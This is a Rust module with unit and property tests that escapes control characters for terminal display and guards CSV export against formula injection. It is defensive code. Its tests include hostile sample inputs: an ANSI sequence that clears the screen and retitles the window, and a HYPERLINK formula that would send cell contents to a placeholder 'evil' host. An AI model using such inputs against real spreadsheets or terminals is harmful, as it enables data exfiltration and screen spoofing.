//! Untrusted text made safe for where it is shown: a terminal (control
//! characters escaped, so an SMTP reply or a subscriber name cannot move the
//! cursor or rewrite the screen) and a spreadsheet cell (the OWASP CSV
//! injection rule, reversible so `import` of an `export` is lossless).

use std::borrow::Cow;

/// `text` with every control character (C0, DEL, C1) and Unicode line or
/// bidi-override character written as a visible escape (`\x1b`,
/// `\u{202e}`); backslashes are doubled only when something was escaped, so
/// ordinary text prints unchanged.
pub fn for_terminal(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_ascii_control() => out.push_str(&format!("\\x{:02x}", c as u32)),
            c if needs_escape(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

fn needs_escape(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        )
}

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Does a cell need the `'` prefix on export: it starts with a formula
/// character, or with `'`s followed by one (so the prefix stays reversible).
fn is_formula_like(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// A cell for a CSV that a spreadsheet may open: prefixed with `'` when it
/// would otherwise run as a formula.
pub fn to_spreadsheet(cell: &str) -> Cow<'_, str> {
    if is_formula_like(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The inverse of [`to_spreadsheet`]: drops the `'` it added, and nothing
/// else (a name such as `'Tis` is kept as written).
pub fn from_spreadsheet(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if is_formula_like(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn terminal_escapes_control_sequences_and_keeps_plain_text() {
        assert_eq!(for_terminal("250 2.0.0 Ok: queued"), "250 2.0.0 Ok: queued");
        assert_eq!(for_terminal("Zoë — ok"), "Zoë — ok");
        assert_eq!(
            for_terminal("550 \u{1b}[2J\u{1b}]0;pwned\u{7}"),
            "550 \\x1b[2J\\x1b]0;pwned\\x07"
        );
        assert_eq!(for_terminal("a\r\nb\\"), "a\\r\\nb\\\\");
        assert_eq!(for_terminal("x\u{9b}y\u{202e}"), "x\\u{9b}y\\u{202e}");
    }

    #[test]
    fn formula_cells_are_prefixed_and_others_left_alone() {
        assert_eq!(
            to_spreadsheet("=HYPERLINK(\"http://evil/?\"&A1)"),
            "'=HYPERLINK(\"http://evil/?\"&A1)"
        );
        for c in ["+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x"] {
            assert!(to_spreadsheet(c).starts_with('\''), "{c:?}");
        }
        for c in ["Ana", "'Tis", "", "a=b", "1+1"] {
            assert_eq!(to_spreadsheet(c), c);
        }
        assert_eq!(from_spreadsheet("'Tis"), "'Tis");
        assert_eq!(from_spreadsheet("'=x"), "=x");
    }

    proptest! {
        #[test]
        fn spreadsheet_cells_round_trip(cell in "['=+@\\t\\r -]{0,3}\\PC{0,12}") {
            let exported = to_spreadsheet(&cell);
            prop_assert!(!exported.starts_with(FORMULA_START));
            prop_assert_eq!(from_spreadsheet(&exported), cell.as_str());
        }

        #[test]
        fn terminal_output_has_no_control_characters(s in "\\PC{0,10}[\\x00-\\x1f\\x7f\\u{80}-\\u{9f}]{0,3}\\PC{0,10}") {
            prop_assert!(!for_terminal(&s).chars().any(char::is_control));
        }
    }
}
